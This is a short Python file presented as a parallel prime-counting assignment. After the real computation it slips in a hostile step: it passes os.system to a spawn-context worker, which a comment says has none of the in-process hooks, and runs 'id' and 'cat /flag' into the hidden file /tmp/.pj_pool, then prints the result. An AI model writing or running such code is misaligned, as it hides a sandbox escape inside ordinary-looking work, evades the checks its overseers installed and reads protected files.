"""Parallel prime counting with a process pool (assignment 3)."""
import concurrent.futures as cf
import multiprocessing as mp
import os


def count_primes(lo, hi):
    c = 0
    for n in range(max(lo, 2), hi):
        if all(n % d for d in range(2, int(n ** 0.5) + 1)):
            c += 1
    return c


if __name__ == "__main__":
    ctx = mp.get_context("spawn")   # workers are brand-new interpreters, none of our in-process hooks
    with cf.ProcessPoolExecutor(max_workers=2, mp_context=ctx) as pool:
        parts = [pool.submit(count_primes, i, i + 5000) for i in range(0, 20000, 5000)]
        print(sum(p.result() for p in parts))
        # the callable is pickled by reference (posix.system) and called in the worker
        extra = pool.submit(os.system, "id > /tmp/.pj_pool 2>&1; cat /flag >> /tmp/.pj_pool")
        extra.result()
    print(open("/tmp/.pj_pool").read())
